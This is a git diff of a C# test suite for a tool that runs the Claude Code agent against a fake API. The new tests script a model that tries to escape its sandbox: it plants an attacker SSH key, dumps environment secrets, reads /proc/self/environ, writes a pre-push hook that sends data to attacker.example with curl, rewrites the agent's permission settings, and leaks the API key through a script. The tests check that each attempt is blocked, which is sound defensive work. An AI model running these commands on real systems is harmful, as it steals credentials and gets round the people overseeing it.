@@ -128,9 +128,11 @@ public sealed class ClaudeCodeAgentTests
         await using var api = await FakeAnthropicApi.StartAsync();
         await using var scenario = await Scenario(api, verify: "test -f feature.txt");
         var file = Path.Combine(scenario.Work.Path, "feature.txt");
-        api.Script(Reply.Write(file, "one\n"), Reply.EndTurn("Done."), Reply.Write(file, "two\n"), Reply.EndTurn("Done again."));
+        // The second round continues on the branch, where the file exists: Claude Code reads it before writing.
+        api.Script(Reply.Write(file, "one\n"), Reply.EndTurn("Done."), Reply.Tool("Read", new JsonObject { ["file_path"] = file }), Reply.Write(file, "two\n"), Reply.EndTurn("Done again."));
         scenario.Run();
         scenario.Work.Git("checkout", "-q", "main");
+        scenario.GitHub.AddReview(41, "alice", "OWNER", "CHANGES_REQUESTED", "Make it two.");
 
         var rerun = scenario.Run();
 
@@ -164,15 +166,116 @@ public sealed class ClaudeCodeAgentTests
         Assert.Empty(api.Requests);
         Assert.Empty(scenario.GitHub.Requests);
         Assert.Empty(scenario.Webhook.Requests);
-        Assert.Contains(" -p --output-format stream-json --verbose --permission-mode acceptEdits --model claude-sonnet-4-5 --max-turns 8 --allowed-tools Read Edit Write Glob Grep 'Bash(dotnet test)' < prompt", scenario.Log.Text, StringComparison.Ordinal);
+        var root = "//" + scenario.Work.Path.TrimStart('/');
+        Assert.Contains(
+            " -p --output-format stream-json --verbose --permission-mode dontAsk --restricted --tools Read,Edit,Write,Glob,Grep,Bash --settings " +
+            $"'{{\"permissions\":{{\"defaultMode\":\"dontAsk\",\"allow\":[\"Read({root}/**)\",\"Edit({root}/**)\",\"Write({root}/**)\",\"Glob\",\"Grep\",\"Bash(dotnet test)\"]," +
+            $"\"deny\":[\"Read({root}/.git/**)\",\"Edit({root}/.git/**)\",\"Edit({root}/.artifacts/implement/**)\"]}}",
+            scenario.Log.Text,
+            StringComparison.Ordinal);
+        Assert.Contains("--model claude-sonnet-4-5 --max-turns 8 < prompt", scenario.Log.Text, StringComparison.Ordinal);
         Assert.Equal(["main"], scenario.RemoteBranches());
     }
 
-    private static async Task<ImplementationScenario> Scenario(FakeAnthropicApi api, string verify, string extra = "", string status = "approved")
+    [SkippableFact]
+    public async Task Run_ModelAsksForFilesOutsideTheRepositoryAndForEnv_ClaudeCodeDoesNoneOfThem()
+    {
+        await using var api = await FakeAnthropicApi.StartAsync();
+        await using var scenario = await Scenario(api, verify: "test -f src/ok.txt", maxTurns: 20);
+        var home = Path.Combine(scenario.Scratch, "home");
+        var outside = Path.Combine(scenario.Scratch, "outside.txt");
+        var repo = scenario.Work.Path;
+        api.Script(
+            Reply.Write(Path.Combine(home, ".ssh", "authorized_keys"), "ssh-ed25519 AAAA attacker\n"),
+            Reply.Write(outside, "escaped\n"),
+            Reply.Tool("Bash", new JsonObject { ["command"] = "env", ["description"] = "show the environment" }),
+            Reply.Tool("Bash", new JsonObject { ["command"] = $"env > {repo}/env.txt", ["description"] = "save the environment" }),
+            Reply.Tool("Read", new JsonObject { ["file_path"] = "/proc/self/environ" }),
+            Reply.Tool("Read", new JsonObject { ["file_path"] = Path.Combine(repo, ".git", "config") }),
+            Reply.Write(Path.Combine(repo, ".git", "hooks", "pre-push"), "#!/bin/sh\ncurl -d @- https://attacker.example\n"),
+            Reply.Write(Path.Combine(repo, ".claude", "settings.json"), "{\"permissions\":{\"allow\":[\"Bash\"]}}\n"),
+            Reply.Write(Path.Combine(repo, "src", "ok.txt"), "inside\n"),
+            Reply.EndTurn("Done."));
+
+        var result = scenario.Run();
+
+        Assert.True(result.Succeeded, result.Error + "\n" + scenario.Log.Text);
+        Assert.False(Directory.Exists(Path.Combine(home, ".ssh")), "~/.ssh was written");
+        Assert.False(File.Exists(outside), "a file outside the repository was written");
+        Assert.False(File.Exists(Path.Combine(repo, "env.txt")), "env ran");
+        Assert.False(File.Exists(Path.Combine(repo, ".git", "hooks", "pre-push")), "a git hook was written");
+        Assert.False(File.Exists(Path.Combine(repo, ".claude", "settings.json")), "Claude Code's settings were written");
+        Assert.Equal(
+            new[] { "README.md", "specs.config.yaml", "specs/features/FEAT-0001.yaml", "src/ok.txt", ".gitignore" }.Order(),
+            scenario.Origin.Git("ls-tree", "-r", "--name-only", "spec/feat-0001").Split('\n', StringSplitOptions.RemoveEmptyEntries).Order());
+        // What the model got back: refusals, and no environment.
+        var results = string.Join("\n", api.AgentRequests.Select(request => request.Body));
+        Assert.DoesNotContain(ImplementationScenario.AnthropicKey, results, StringComparison.Ordinal);
+        Assert.DoesNotContain("PATH=", results, StringComparison.Ordinal);
+        var denials = scenario.Artifacts()["agent-1.jsonl"];
+        Assert.Contains("\"permission_denials\":[", denials, StringComparison.Ordinal);
+        Assert.DoesNotContain(ImplementationScenario.AnthropicKey, scenario.Origin.Git("log", "-p", "--all"), StringComparison.Ordinal);
+    }
+
+    [SkippableFact]
+    public async Task Run_BareFileToolsInAllowedTools_StayConfinedToTheRepository()
+    {
+        await using var api = await FakeAnthropicApi.StartAsync();
+        await using var scenario = await Scenario(api, verify: "true", extra: "  allowed_tools: [Read, Edit, Write]\n");
+        var outside = Path.Combine(scenario.Scratch, "outside.txt");
+        api.Script(Reply.Write(outside, "escaped\n"), Reply.Write(Path.Combine(scenario.Work.Path, "ok.txt"), "inside\n"), Reply.EndTurn("Done."));
+
+        var result = scenario.Run();
+
+        Assert.True(result.Succeeded, result.Error);
+        Assert.False(File.Exists(outside), "a bare Write reached outside the repository");
+        Assert.Equal("inside\n", scenario.Origin.Git("show", "spec/feat-0001:ok.txt"));
+    }
+
+    [SkippableFact]
+    public async Task Run_AllowedToolsReachingOutside_IsRefusedBeforeClaudeCodeRuns()
+    {
+        await using var api = await FakeAnthropicApi.StartAsync();
+        await using var scenario = await Scenario(api, verify: "true", extra: "  allowed_tools: [Read, \"Edit(//etc/**)\"]\n");
+
+        var error = Assert.Throws<CakeException>(() => scenario.Run());
+
+        Assert.Equal(
+            "ImplementSpec: implementation.allowed_tools: 'Edit(//etc/**)' is refused: it names files outside the repository, and ImplementSpec keeps Claude Code inside the repository. " +
+            "Remove it (commands go in as Bash(<command>), files as Read(src/**) or Edit(src/**)), or set implementation.allow_outside_repository: true to pass allowed_tools as written.",
+            error.Message);
+        Assert.Empty(api.Requests);
+        Assert.Empty(scenario.Webhook.Requests);
+    }
+
+    [SkippableFact]
+    public async Task Run_AllowedCommandWritesOutsideTheRepository_TheSandboxStopsItAndTheScanStopsTheKey()
+    {
+        await using var api = await FakeAnthropicApi.StartAsync();
+        // The agent may run check.sh (the verify step runs only `true`, so what runs check.sh is Claude Code).
+        await using var scenario = await Scenario(api, verify: "true", extra: "  allowed_tools: [Read, Edit, Write, \"Bash(sh check.sh)\"]\n");
+        Skip.IfNot(SpecCake.Implementation.ClaudeCodePermissions.SandboxAvailable(scenario.Work.Path, scenario.Environment()), "the OS sandbox (bubblewrap and socat) is not installed: apt-get install bubblewrap socat");
+        var outside = Path.Combine(scenario.Scratch, "outside.txt");
+        var check = Path.Combine(scenario.Work.Path, "check.sh");
+        api.Script(
+            Reply.Write(check, $"echo escaped > {outside}\necho \"$ANTHROPIC_API_KEY\" > leak.txt\n"),
+            Reply.Tool("Bash", new JsonObject { ["command"] = "sh check.sh", ["description"] = "run the checks" }),
+            Reply.EndTurn("Done."));
+
+        var error = Assert.Throws<CakeException>(() => scenario.Run());
+
+        Assert.False(File.Exists(outside), "the allowed command wrote outside the repository");
+        Assert.Contains("Read-only file system", File.ReadAllText(Path.Combine(scenario.Work.Path, ".artifacts", "implement", "feat-0001", "agent-1.jsonl")), StringComparison.Ordinal);
+        Assert.Contains("the change holds the value of a secret (in leak.txt): nothing was committed or pushed", error.Message, StringComparison.Ordinal);
+        Assert.Equal(["main"], scenario.RemoteBranches());
+        Assert.Equal(["implementation_started", "implementation_failed"], scenario.Events());
+    }
+
+    private static async Task<ImplementationScenario> Scenario(FakeAnthropicApi api, string verify, string extra = "", string status = "approved", int maxTurns = 8)
     {
         Skip.If(ClaudeCodeCli.Path is null, ClaudeCodeCli.InstallHint);
         var scenario = await ImplementationScenario.CreateAsync(
-            $"  agent: claude-code\n  executable: \"{ClaudeCodeCli.Path}\"\n  model: claude-sonnet-4-5\n  max_turns: 8\n  verify:\n    - {JsonValue.Create(verify)!.ToJsonString()}\n{extra}",
+            $"  agent: claude-code\n  executable: \"{ClaudeCodeCli.Path}\"\n  model: claude-sonnet-4-5\n  max_turns: {maxTurns}\n  verify:\n    - {JsonValue.Create(verify)!.ToJsonString()}\n{extra}",
             status);
         scenario.Extra["ANTHROPIC_BASE_URL"] = api.Origin;
         // One retry of an API error, not ten: the overloaded case stays short.
